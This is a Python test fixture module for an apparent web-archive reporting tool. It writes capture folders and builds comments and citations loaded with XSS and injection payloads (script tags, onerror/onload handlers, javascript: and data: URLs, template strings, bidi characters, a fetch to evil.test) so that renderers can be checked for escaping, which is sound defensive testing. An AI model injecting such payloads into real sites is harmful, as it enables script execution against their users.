"""Captures as folders, made of rows by hand: what reports are made from, and nothing else."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING, Any

import msgspec
from change_rows import SEED, account, cited, comment, fetched

from preserve.catalogue import CaptureFolder
from preserve.manifest import (
    AuthorRow,
    FileRow,
    PartRow,
    Parts,
    RecordRow,
    encode,
    encode_manifest,
)
from preserve.model import Flag, Outcome

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence
    from pathlib import Path

    from preserve.manifest import CitationRow, CommentRow, ResourceRow

__all__ = ["SEED", "cited", "comment", "evil_comments", "kept", "thousands", "with_record"]

PWN = "document.title='PWNED';document.body.dataset.pwned=1;alert(1);fetch('//evil.test/')"
EVIL = (
    f'<script>{PWN}</script><img src=x onerror="{PWN}"> \'" --><!-- </style></title></textarea>'
    "<svg onload=alert(2)> {{ 7*7 }} {% raw %} &amp; \u202eevil\u202c \u2066iso \x00\x07"
)


def with_record(row: ResourceRow, moment: str = "2026-01-01T12:00:01.5Z") -> ResourceRow:
    """Return a row whose answer lies in a record."""
    record = RecordRow(file="a.warc.gz", offset=0, length=1, id=f"<urn:uuid:{row.id}>")
    return msgspec.structs.replace(row, record=record, warc_date=moment)


def kept(
    collection: Path,
    comments: Iterable[CommentRow] = (),
    citations: Sequence[CitationRow] = (),
    resources: Sequence[ResourceRow] | None = None,
    *,
    name: str = "20260101T120000Z-aaaaaa",
    started: str = "2026-01-01T12:00:00Z",
    seed: str = SEED,
    facts: dict[str, Any] | None = None,
    **more: Any,
) -> CaptureFolder:
    """Write a capture into a collection; ``facts`` are of the capture, the rest as ``account``."""
    folder = collection / "blog.example" / name
    folder.mkdir(parents=True)
    if resources is None:
        resources = [
            with_record(fetched(int(row.id[1:]), row.final_url or "", row.outcome))
            for row in citations
            if row.outcome is not None and row.outcome.group >= 2
        ]
    parts: dict[str, PartRow] = {}
    for part, rows in (
        ("comments", comments),
        ("citations", citations),
        ("resources", resources),
    ):
        digest, count = hashlib.sha256(), 0
        with (folder / f"{part}.jsonl").open("wb") as stream:
            for row in rows:
                line = encode(row) + b"\n"
                stream.write(line)
                digest.update(line)
                count += 1
        parts[part] = PartRow(file=f"{part}.jsonl", count=count, sha256=digest.hexdigest())
    manifest = account(resources=(), **more).manifest
    replace = msgspec.structs.replace
    manifest = replace(
        manifest,
        capture=replace(
            manifest.capture,
            **{"id": name, "seed": seed, "started": started, "finished": started, **(facts or {})},
        ),
        discussion=replace(manifest.discussion, recorded=parts["comments"].count),
        parts=Parts(**parts),
        files=(FileRow(name=f"{name}-00000.warc.gz", bytes=1_234_567, sha256="ab" * 32),),
    )
    (folder / "manifest.json").write_bytes(encode_manifest(manifest))
    return CaptureFolder(id=name, path=folder, manifest=manifest)


def evil_comments() -> list[CommentRow]:
    """Return comments that try to break out of whatever shows them, by every field they have."""
    evil = AuthorRow(name=EVIL, url="javascript:alert(3)")
    return [
        comment("1", 1, EVIL, author=evil, title=EVIL, date_text=EVIL, number=EVIL),
        comment(
            f'2" onfocus="{PWN}',
            2,
            "مرحبا بالعالم",
            parent="1",
            depth=2,
            author=AuthorRow(name="עדה", url="https://ada.example/?a=1&b=<x>"),
            permalink="data:text/html,<script>alert(4)</script>",
        ),
        comment("3", 3, "x" * 5_000, parent="2", depth=3, name="m" * 300),
        comment("4", 4, "a\u0300" + "\u0301\u0302\u0303" * 300, name="Zalgo"),
    ]


def evil_citations() -> list[CitationRow]:
    """Return citations of the same kind."""
    wrong = cited(3, "javascript:alert(5)", Outcome.UNSUPPORTED_SCHEME, by="1")
    odd = cited(4, 'https://evil.test/"><script>alert(6)</script>', Outcome.NOT_FOUND, by="1")
    quoted = msgspec.structs.replace(odd, id="c5", context=EVIL, anchor_text=EVIL, as_written=EVIL)
    return [wrong, odd, quoted]


def evil_resources(citations: Iterable[CitationRow]) -> list[ResourceRow]:
    """Return what is known of those."""
    return [
        with_record(
            fetched(int(row.id[1:]), row.url or "", row.outcome, flags=[Flag.SOFT_404], detail=EVIL)
        )
        for row in citations
    ]


def thousands(number: int, *, characters: int = 400) -> Iterable[CommentRow]:
    """Yield so many comments: threads of ten, each answering the one before."""
    words = "Le four du village se rallume chaque samedi matin avant le lever du jour. "
    text = (words * (characters // len(words) + 1))[:characters]
    for place in range(1, number + 1):
        step = (place - 1) % 10
        yield comment(
            str(place),
            place,
            f"{place} {text}",
            parent=str(place - 1) if step else None,
            depth=step + 1,
            number=str(place),
            date=f"2016-{place % 12 + 1:02}-{place % 28 + 1:02}T10:00:00+01:00",
        )
